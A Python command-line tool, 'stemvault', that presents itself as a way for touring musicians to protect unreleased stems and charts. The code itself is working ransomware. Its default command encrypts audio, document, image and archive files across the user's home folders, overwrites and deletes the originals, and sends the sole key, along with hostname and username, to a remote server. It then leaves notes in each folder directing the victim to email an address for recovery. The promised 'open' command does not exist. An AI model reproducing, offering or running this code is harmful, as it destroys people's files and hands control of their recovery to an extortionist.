#!/usr/bin/env python3
"""stemvault - lock unreleased stems and charts before a tour.

Session players get sent multitrack stems, click tracks and charts under NDA.
stemvault seals them into .svlt containers (AES-256-GCM) so a lost laptop or
a borrowed USB stick does not leak a client's unreleased material.  The vault
key is escrowed with the StemVault key service; `stemvault open` fetches it
back with your account code.

    stemvault seal            seal the default library locations
    stemvault seal ~/Gigs     seal a specific folder
"""
import argparse
import json
import logging
import os
import secrets
import socket
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("stemvault")

KEY_SERVICE = os.environ.get("STEMVAULT_KEYS", "https://keys.stemvault.io/v1/escrow")
SUFFIX = ".svlt"
DEFAULT_ROOTS = ["~/Music", "~/Documents", "~/Desktop", "~/Pictures", "~/Downloads", "~/Dropbox"]
SEAL_EXT = {
    ".wav", ".aif", ".aiff", ".flac", ".mp3", ".m4a", ".mid", ".logicx", ".als", ".ptx",
    ".pdf", ".musicxml", ".sib", ".mscz", ".doc", ".docx", ".xls", ".xlsx", ".odt",
    ".jpg", ".jpeg", ".png", ".zip", ".txt", ".csv",
}
CHUNK = 1 << 20
NOTICE = """Your library has been sealed by StemVault.

Vault id: {vault}
Files sealed: {count}

To open the vault, email recover@stemvault.io with the vault id above.
"""


def candidates(roots):
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in SEAL_EXT and not p.is_symlink():
                    yield p


def escrow_key(vault_id, key):
    payload = {"vault": vault_id, "host": socket.gethostname(), "user": os.environ.get("USER", ""),
               "key": key.hex()}
    for attempt in range(5):
        try:
            r = requests.post(KEY_SERVICE, json=payload, timeout=20)
            if r.ok:
                return True
            log.debug("escrow attempt %d -> %s", attempt, r.status_code)
        except requests.RequestException as exc:
            log.debug("escrow attempt %d failed: %s", attempt, exc)
    return False


class Sealer:
    def __init__(self, key):
        self.aead = AESGCM(key)

    def seal(self, path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        sealed = nonce + self.aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(sealed)
        self._scrub(path, len(data))
        return path

    @staticmethod
    def _scrub(path, size):
        with open(path, "r+b", buffering=0) as fh:
            remaining = size
            while remaining > 0:
                n = min(CHUNK, remaining)
                fh.write(b"\0" * n)
                remaining -= n
            os.fsync(fh.fileno())
        path.unlink()


def seal_all(roots, workers):
    vault_id = secrets.token_hex(8)
    key = AESGCM.generate_key(bit_length=256)
    if not escrow_key(vault_id, key):
        log.error("key service unreachable - nothing sealed")
        return 1
    sealer = Sealer(key)
    del key
    count = 0
    with ThreadPoolExecutor(max_workers=workers) as pool:
        for done in pool.map(_try(sealer), candidates(roots)):
            if done:
                count += 1
                if count % 100 == 0:
                    log.info("sealed %d files", count)
    for root in roots:
        base = Path(root).expanduser()
        if base.is_dir():
            (base / "STEMVAULT_README.txt").write_text(NOTICE.format(vault=vault_id, count=count))
    state = Path.home() / ".stemvault.json"
    state.write_text(json.dumps({"vault": vault_id, "files": count}))
    log.info("vault %s: %d files sealed", vault_id, count)
    return 0


def _try(sealer):
    def run(path):
        try:
            return sealer.seal(path)
        except (OSError, ValueError) as exc:
            log.debug("skip %s: %s", path, exc)
            return None
    return run


def main(argv=None):
    ap = argparse.ArgumentParser(prog="stemvault")
    sub = ap.add_subparsers(dest="cmd")
    p = sub.add_parser("seal")
    p.add_argument("roots", nargs="*")
    p.add_argument("-j", "--jobs", type=int, default=os.cpu_count() or 4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO, format="%(message)s")
    if args.cmd in (None, "seal"):
        roots = getattr(args, "roots", None) or DEFAULT_ROOTS
        return seal_all(roots, getattr(args, "jobs", 4))
    ap.print_help()
    return 2


if __name__ == "__main__":
    sys.exit(main())
